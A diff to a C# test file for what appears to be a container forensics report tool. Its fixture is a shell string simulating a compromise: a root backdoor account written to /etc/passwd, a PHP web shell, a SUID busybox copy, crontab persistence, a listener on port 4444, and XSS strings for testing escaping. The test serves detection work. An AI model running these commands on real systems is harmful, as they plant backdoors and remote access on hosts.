@@ -17,7 +17,7 @@ public sealed class ReportTests
     private const string Compromise =
         "echo 'evil:x:0:0::/root:/bin/sh' >> /etc/passwd; mkdir -p /var/www/html; echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/shell.php; "
         + "cp /bin/busybox /usr/local/bin/suid; chmod 4755 /usr/local/bin/suid; echo '* * * * * /tmp/sleep' > /etc/crontab; "
-        + "cp /bin/busybox /tmp/sleep; /tmp/sleep 3601 & cp /bin/busybox /tmp/nc; /tmp/nc -l -p 4444 & sleep 1; rm /tmp/nc; "
+        + "cp /bin/busybox /tmp/sleep; /tmp/sleep 3601 & echo 'fetching /tmp/nc from 203.0.113.7'; cp /bin/busybox /tmp/nc; /tmp/nc -l -p 4444 & sleep 1; rm /tmp/nc; "
         + "printf 'started \\033[31mred\\033[0m <script>alert(1)</script>\\n'; mkdir -p '/tmp/<script>alert(1)<'; cp /bin/busybox '/tmp/<script>alert(1)</script>'; "
         + "exec sleep 3600";
 
@@ -79,6 +79,13 @@ public sealed class ReportTests
         Assert.DoesNotContain("<script", dom, StringComparison.OrdinalIgnoreCase);
         Assert.Contains("/tmp/&lt;script&gt;alert(1)&lt;/script&gt;", dom, StringComparison.Ordinal);
         Assert.Contains("started \\x1b[31mred\\x1b[0m", dom, StringComparison.Ordinal);
+        // The log line that names the deleted executable, marked, in the finding's excerpt; none for the clean container.
+        int excerpt = dom.IndexOf("class=\"excerpt\" data-rule=\"CFIR-PROC-DELETED-EXE\"", StringComparison.Ordinal);
+        Assert.True(excerpt > 0, "no log excerpt for CFIR-PROC-DELETED-EXE");
+        Assert.Contains("fetching /tmp/nc from 203.0.113.7</mark>", dom[excerpt..], StringComparison.Ordinal);
+        Assert.Contains(badFolder + "/logs/stdout.log</code> sha256 <code>", dom[excerpt..], StringComparison.Ordinal);
+        Assert.DoesNotContain($"class=\"excerpt\" data-rule=\"CFIR-CTR-ROOT\"", dom, StringComparison.Ordinal);
+        Assert.DoesNotMatch("class=\"excerpt\"[^>]*>[^<]*in <code>" + System.Text.RegularExpressions.Regex.Escape(cleanFolder), dom);
         Assert.DoesNotContain("\u001b", dom, StringComparison.Ordinal);
 
         // One byte of the compromised container's inspect.json flipped: the report says so first.
